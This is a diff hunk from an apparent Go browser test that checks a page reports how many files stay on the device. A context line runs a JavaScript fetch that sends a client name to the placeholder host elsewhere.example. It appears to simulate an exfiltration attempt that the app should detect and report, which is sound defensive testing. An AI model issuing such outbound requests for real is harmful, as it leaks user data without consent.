@@ -53,6 +53,8 @@ func TestProofIsTrue(t *testing.T) {
 		}
 	}
 
+	page.Wait("what is kept to be hashed", fmt.Sprintf(`document.querySelector("#built").textContent.includes("%d of these %d files are kept on this device")`, len(rows)-1, len(rows)))
+
 	// An attempt to get out is seen, and told.
 	page.Eval(`fetch("https://elsewhere.example/?client=Jane").catch(() => 0)`, nil)
 	page.Click("button", "Look again")
